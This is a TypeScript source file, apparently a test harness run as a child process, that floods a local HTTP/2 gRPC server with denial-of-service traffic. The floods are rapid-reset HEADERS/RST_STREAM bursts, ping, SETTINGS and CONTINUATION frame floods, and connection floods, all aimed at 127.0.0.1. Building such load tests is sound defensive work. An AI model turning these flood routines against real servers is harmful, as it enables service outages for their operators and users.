import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { frame, frameTypes, headersFrame, rawPeer } from "./frames.ts";

/*
 * An attacker in a process of its own: `attacker.ts NAME PORT FROM PER_SECOND`. Floods a port from an address, with
 * so many new connections a second (0: as fast as it can, four at a time), until whoever started it ends it. Tells
 * when it begins, and, asked for it, how many connections it made.
 */

const path = "/grpc.health.v1.Health/Check";
const lanes = 4;

const pings = repeated(frame(frameTypes.ping, 0, 0, Buffer.alloc(8)), 100);
const settings = repeated(frame(frameTypes.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])), 100);
const continuations = repeated(frame(frameTypes.continuation, 0, 1, Buffer.alloc(1_000, 0x82)), 10);
const resets = Array.from({ length: 100 }, (_, batch) =>
  Buffer.concat(
    Array.from({ length: 100 }, (_, turn) => {
      const streamId = 2 * (100 * batch + turn) + 1;
      return Buffer.concat([
        headersFrame(streamId, path, { isOpen: true }),
        frame(frameTypes.rstStream, 0, streamId, Buffer.from([0, 0, 0, 8])),
      ]);
    }),
  ),
);

const [name = "", port = "0", from = "127.0.0.2", perSecond = "0"] = process.argv.slice(2);

const attacks: Readonly<Record<string, () => Promise<void>>> = {
  reset: () => flood(null, (turn) => resets[turn] ?? Buffer.alloc(0), resets.length),
  pings: () => flood(headersFrame(1, path), pings, 100),
  settings: () => flood(null, settings, 100),
  continuations: () => flood(frame(frameTypes.headers, 0x1, 1, Buffer.from([0x82])), continuations, 100),
  connections: async () => {
    const socket = connect({ port: Number(port), host: "127.0.0.1", localAddress: from });
    socket.on("error", () => {});
    socket.resume();
    await once(socket, "connect");
    socket.end("PRI");
    if (!socket.destroyed) await once(socket, "close");
  },
};

let made = 0;
const attack = attacks[name];
if (attack === undefined) throw new Error(`no such attack: ${name}`);
process.on("disconnect", () => process.exit(0));
process.on("message", () => process.send?.({ made }));
process.send?.("attacking");
if (perSecond === "0") {
  for (let lane = 0; lane < lanes; lane++) void lastingly();
} else {
  setInterval(() => void oneAttack(), 1_000 / Number(perSecond));
}

async function lastingly(): Promise<never> {
  for (;;) {
    await oneAttack();
    if (made % 100 === 0) await delay(0);
  }
}

async function oneAttack(): Promise<void> {
  made++;
  await attack?.().catch(() => {});
}

async function flood(
  first: Buffer | null,
  bytes: Buffer | ((turn: number) => Buffer),
  times: number,
): Promise<void> {
  const peer = await rawPeer(Number(port), { from });
  if (first !== null) peer.socket.write(first);
  await peer.flood(bytes, times);
  peer.socket.destroy();
}

function repeated(bytes: Buffer, times: number): Buffer {
  return Buffer.concat(Array.from({ length: times }, () => bytes));
}
